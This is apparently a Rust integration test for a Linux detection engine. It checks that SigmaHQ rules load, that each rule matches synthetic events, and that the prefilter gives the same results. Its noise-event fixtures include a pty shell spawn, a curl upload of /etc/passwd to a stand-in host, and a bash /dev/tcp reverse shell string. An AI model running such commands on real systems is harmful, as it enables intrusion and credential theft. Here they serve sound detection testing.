//! The SigmaHQ Linux corpus (`shared/data/sigma-linux`): every rule loads or is
//! rejected for the exact reason listed here; every loaded rule matches an event
//! generated from it and misses the same event with one required value changed;
//! results are identical with and without the prefilter.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use vigie_proto::event::{Event, Kind, Timestamp};
use vigie_rules::{Engine, RuleSet, load_sources, synth};

/// Rules the corpus has that Vigie rejects, with the exact reason.
const REJECTED: &[(&str, &str)] = &[(
    "process_creation/proc_creation_lnx_omigod_scx_runasprovider_executescript.yml",
    "field `LogonId` has no vigie equivalent for logsource {product: linux, category: process_creation}; map it in the pipeline or use an ecs field path",
)];

/// Loaded rules for which no example event can be generated, and why.
const NO_EXAMPLE: &[(&str, &str)] = &[];

const LOADED: usize = 142;

fn corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/sigma-linux")
}

fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    let mut entries: Vec<PathBuf> = rd.filter_map(|e| e.ok().map(|e| e.path())).collect();
    entries.sort();
    for p in entries {
        if p.is_dir() {
            walk(&p, out);
        } else if p.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            out.push(p);
        }
    }
}

fn load_corpus() -> Vec<(String, String)> {
    let root = corpus_dir();
    let mut paths = Vec::new();
    walk(&root, &mut paths);
    assert!(!paths.is_empty(), "no rules under {}", root.display());
    paths
        .into_iter()
        .map(|p| {
            let rel = p
                .strip_prefix(&root)
                .map(|r| r.to_string_lossy().into_owned())
                .unwrap_or_default();
            let text =
                std::fs::read_to_string(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
            (rel, text)
        })
        .collect()
}

fn rule_path(set: &RuleSet, i: usize) -> String {
    let src = &set.rules[i].meta.source;
    src.split([' ', '#']).next().unwrap_or_default().to_string()
}

#[test]
fn corpus_loads_or_is_rejected_precisely() {
    let files = load_corpus();
    assert_eq!(files.len(), 143);
    let (set, errors) = load_sources(&files);
    let got: BTreeSet<(String, String)> = errors
        .iter()
        .map(|e| (e.path().to_string(), e.reason.to_string()))
        .collect();
    let want: BTreeSet<(String, String)> = REJECTED
        .iter()
        .map(|(p, r)| (p.to_string(), r.to_string()))
        .collect();
    assert_eq!(got, want, "rejected rules differ");
    assert_eq!(set.len(), LOADED);
    // Every loaded rule keeps its ATT&CK tags.
    let tagged = set
        .rules
        .iter()
        .filter(|r| r.meta.attack_tags().next().is_some())
        .count();
    assert!(tagged > 130, "only {tagged} rules carry attack tags");
}

#[test]
fn every_loaded_rule_matches_its_example_and_misses_the_mutation() {
    let files = load_corpus();
    let (set, _) = load_sources(&files);
    let fields = set.fields().to_vec();
    let paths: Vec<String> = (0..set.len()).map(|i| rule_path(&set, i)).collect();
    let examples: Vec<_> = set
        .rules
        .iter()
        .map(|r| synth::example(r, &fields))
        .collect();
    let engine = Engine::new(set);
    let plain = Engine::new(engine.rule_set().clone()).with_prefilter(false);
    assert!(
        engine.prefiltered_rules() > 120,
        "prefilter covers only {} rules",
        engine.prefiltered_rules()
    );

    let mut no_example = BTreeSet::new();
    let mut failures = Vec::new();
    let mut all_events = Vec::new();
    for (i, ex) in examples.into_iter().enumerate() {
        let ex = match ex {
            Ok(ex) => ex,
            Err(reason) => {
                no_example.insert((paths[i].clone(), reason));
                continue;
            }
        };
        let hits: Vec<usize> = engine
            .evaluate(&ex.matching)
            .iter()
            .map(|m| m.rule)
            .collect();
        if !hits.contains(&i) {
            failures.push(format!(
                "{}: example does not match: {}",
                paths[i],
                ex.matching.to_json()
            ));
        }
        let miss: Vec<usize> = engine
            .evaluate(&ex.mutated)
            .iter()
            .map(|m| m.rule)
            .collect();
        if miss.contains(&i) {
            failures.push(format!(
                "{}: still matches with {} changed: {}",
                paths[i],
                ex.mutated_field,
                ex.mutated.to_json()
            ));
        }
        // The wrong kind never matches.
        let mut wrong = ex.matching.clone();
        wrong.event.kind = Kind::ALL
            .into_iter()
            .find(|k| !engine.rules()[i].route.kinds.contains(k))
            .unwrap_or(Kind::AgentHealth);
        if engine.evaluate(&wrong).iter().any(|m| m.rule == i) {
            failures.push(format!(
                "{}: matches an event of kind {}",
                paths[i], wrong.event.kind
            ));
        }
        all_events.push(ex.matching);
        all_events.push(ex.mutated);
        all_events.push(wrong);
    }
    let want: BTreeSet<(String, String)> = NO_EXAMPLE
        .iter()
        .map(|(p, r)| (p.to_string(), r.to_string()))
        .collect();
    assert_eq!(no_example, want, "rules without an example differ");
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );

    // Prefilter on and off agree on every generated event and on plain noise.
    all_events.extend(noise_events());
    for ev in &all_events {
        let a: Vec<usize> = engine.evaluate(ev).iter().map(|m| m.rule).collect();
        let b: Vec<usize> = plain.evaluate(ev).iter().map(|m| m.rule).collect();
        assert_eq!(a, b, "prefilter changed the result for {}", ev.to_json());
    }
}

fn noise_events() -> Vec<Event> {
    let mut out = Vec::new();
    for (i, (exe, cmd)) in [
        ("/usr/bin/ls", "ls -la /tmp"),
        ("/bin/bash", "bash -c 'echo hi'"),
        (
            "/usr/bin/python3",
            "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
        ),
        ("/usr/bin/curl", "curl -F file=@/etc/passwd http://x"),
        ("/usr/bin/base64", "base64 -d /tmp/x"),
    ]
    .into_iter()
    .enumerate()
    {
        let mut e = Event::new(Kind::ProcessExec, Timestamp::from_secs(i as i64));
        let p = e.process.get_or_insert_with(Default::default);
        p.executable = exe.into();
        p.command_line = cmd.into();
        out.push(e);
    }
    let mut l = Event::new(Kind::Log, Timestamp::from_secs(9));
    l.message = "sshd[1]: error in libcrypto; bash -i >& /dev/tcp/10.0.0.1/4444".into();
    l.log.get_or_insert_with(Default::default).logger = "sshd".into();
    out.push(l);
    out
}
